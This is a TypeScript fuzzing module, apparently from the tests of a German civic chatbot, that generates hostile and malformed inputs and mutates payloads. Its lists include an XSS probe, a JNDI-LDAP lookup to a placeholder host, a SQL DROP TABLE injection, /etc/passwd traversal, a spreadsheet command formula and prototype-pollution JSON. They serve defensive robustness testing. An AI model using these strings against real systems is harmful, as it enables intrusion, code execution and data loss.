import type { Dice } from '../../bench/matching/dice.ts';

/** Stands in every address, name and number that is meant to act. */
export const EVIL = 'boese';

const MARKUP = [
  `<b>fett</b> <a href="https://${EVIL}.example/x">bund.de</a>`,
  `</b></blockquote></a><a href='https://${EVIL}.example'>x</a>`,
  '<a href="tg://user?id=4711">Frau K.</a> <tg-spoiler>x</tg-spoiler>',
  '<script>alert(1)</script><!-- <b>',
  '&lt;b&gt; &#60;b&#62; &amp;amp; &quot; &bogus; &#x110000;',
  `<!channel> <!here> <!everyone> <@U666${EVIL}> <#C1|raum> <https://${EVIL}.example|bund.de>`,
  `<mailto:x@${EVIL}.example|Rathaus> <tel:+491234|115> &lt;!channel&gt;`,
  '*fett* _schräg_ ~weg~ `code` ```block``` > Zitat',
  `[Klick](https://${EVIL}.example) ![x](https://${EVIL}.example/x.png) __x__ ||x||`,
  `@${EVIL}_bot @channel @here /stopp /${EVIL} #${EVIL} https://${EVIL}.example/stopp`,
  `{{7*7}} \${jndi:ldap://${EVIL}.example} %s%n %x '; DROP TABLE persons; --`,
  '<'.repeat(300),
  '&'.repeat(300),
];
const SIGNS = [
  '\u202eetöb ettib\u202c \u2066x\u2069 \u200f\u200e',
  '\u200b\u200c\u200d\u2060\ufeff\u00ad',
  'st\u200bopp l\u00f6\u200dschen',
  'ѕtорр hіlfе', // Cyrillic letters that look like ours
  'ＳＴＯＰＰ １２３ ｊａ',
  '\u0000\u0001\u0007\u001b[2J\u001b]0;x\u0007\r\n\u0085\u2028\u2029',
  '\ud800 x \udfff \udc00\ud800',
  'Z̷̛͇a̸̢l̵g̶o̸'.repeat(30),
  '👩‍👩‍👧‍👦🏳️‍🌈🇩🇪'.repeat(60),
  '\ufff9x\ufffa\ufffb \u{e0041}\u{e007f} \u{10ffff}',
  ' \t\n '.repeat(50),
  '',
  '\u3164\u115f\u2800',
  'ﷺ'.repeat(400),
];
const KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
];
const PATHS = [
  '../../../etc/passwd',
  'C:\\windows\\x',
  'file:///etc/passwd',
  '=cmd|"/c calc"!A1',
  '@SUM(1)',
];
const NUMBERS = [
  '-1',
  '0',
  '1e309',
  'NaN',
  '٣',
  '9007199254740993',
  '1,5',
  '0x10',
  '1'.repeat(400),
];
const DATES = ['31.2.2027', '0.0.0', '99.99.9999', '2027-02-30T25:61', 'gestern', '1.1.275761'];
const ORDINARY = [
  'Wer gibt Geld für ein neues Feuerwehrhaus?',
  'Unser Marktplatz steht leer, was tun?',
  'ja',
  'nein',
  'weiter',
  'zurück',
  'abbrechen',
  'Barth',
  'überspringen',
  'fertig',
  '1',
  '2',
  'absenden',
];

/** Long ones are rare, since each takes a while. */
const LONG: readonly ((dice: Dice) => string)[] = [
  () => 'a'.repeat(100_000),
  () => 'Leerstand in der Innenstadt. '.repeat(3_400),
  () => '<b>'.repeat(33_000),
  () => 'ä́'.repeat(30_000),
  () => '@a '.repeat(30_000),
  () => `${'Feuerwehr'.repeat(3_000)} ${'('.repeat(20_000)}`,
  (dice) => Array.from({ length: 12_000 }, () => dice.below(100_000).toString(36)).join(' '),
  () => `${'['.repeat(50_000)}${']'.repeat(50_000)}`,
  () => 'Städtebauförderungsrichtlinienverordnung'.repeat(500),
  ...['A-', 'Az/', '0 ', 'Frau ', 'in A', '. ', '„a“ ', '1.1.', 'www.', ' '].map(
    (piece) => () => piece.repeat(100_000 / piece.length),
  ),
];

function wild(dice: Dice): string {
  const length = dice.below(120);
  return Array.from({ length }, () => {
    const kind = dice.below(6);
    if (kind === 0) return String.fromCharCode(dice.below(65_536));
    if (kind === 1) return String.fromCodePoint(0x10_000 + dice.below(0xf_ffff));
    return String.fromCharCode(32 + dice.below(95));
  }).join('');
}

/** What somebody might write who means harm, or whose keyboard is broken. */
export function hostileText(dice: Dice): string {
  const kind = dice.below(100);
  if (kind < 2) return dice.pick(LONG)?.(dice) ?? '';
  if (kind < 30) return dice.pick(MARKUP) ?? '';
  if (kind < 50) return dice.pick(SIGNS) ?? '';
  if (kind < 56) return dice.pick(KEYS) ?? '';
  if (kind < 62) return dice.pick(PATHS) ?? '';
  if (kind < 68) return dice.pick(NUMBERS) ?? '';
  if (kind < 72) return dice.pick(DATES) ?? '';
  if (kind < 82) return wild(dice);
  if (kind < 92) return dice.pick(ORDINARY) ?? '';
  return `${dice.pick(ORDINARY)} ${dice.pick(MARKUP)} ${dice.pick(SIGNS)}`;
}

/** As long as a code, and never one. */
export const codeGuess = (dice: Dice): string =>
  Array.from({ length: 4 }, () =>
    Array.from({ length: 5 }, () => '0123456789ABCDEFGHJKMNPQRSTVWXYZ'[dice.below(32)]).join(''),
  ).join('-');

const deep = (depth: number): unknown => {
  let value: unknown = 'x';
  for (let i = 0; i < depth; i++) value = i % 2 === 0 ? [value] : { __proto__x: value };
  return value;
};

const WRONG: readonly ((dice: Dice) => unknown)[] = [
  () => null,
  () => 4711,
  () => -1,
  () => 1e308,
  () => '',
  () => [],
  () => ({}),
  () => true,
  () => 'x'.repeat(5_000),
  () => deep(400),
  () => JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}'),
  (dice) => hostileText(dice).slice(0, 2_000),
];

/** The same payload with a field missing, of another type, doubled or unknown. */
export function mutated(dice: Dice, value: unknown): unknown {
  if (typeof value !== 'object' || value === null || dice.chance(8))
    return dice.pick(WRONG)?.(dice);
  if (Array.isArray(value)) return value.map((one) => (dice.chance(50) ? mutated(dice, one) : one));
  const entries = Object.entries(value);
  const at = dice.below(Math.max(entries.length, 1));
  const changed = entries.flatMap(([key, one], i) => {
    if (i !== at) return [[key, one] as const];
    const how = dice.below(4);
    if (how === 0) return [];
    if (how === 1) return [[dice.pick(KEYS) ?? key, one] as const];
    return [[key, mutated(dice, one)] as const];
  });
  return Object.fromEntries(changed);
}

/** Bodies that are no payload at all. */
export const JUNK: readonly string[] = [
  '',
  '{',
  'null',
  '[]',
  '"x"',
  '4711',
  '['.repeat(100_000),
  `${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}`,
  '\u0000\u0001',
  'payload=%7B',
  `{"update_id":1,"message":${'['.repeat(2_000)}${']'.repeat(2_000)}}`,
  '{"__proto__":{"polluted":true}}',
  'x'.repeat(255 * 1024),
  'x'.repeat(300 * 1024),
];
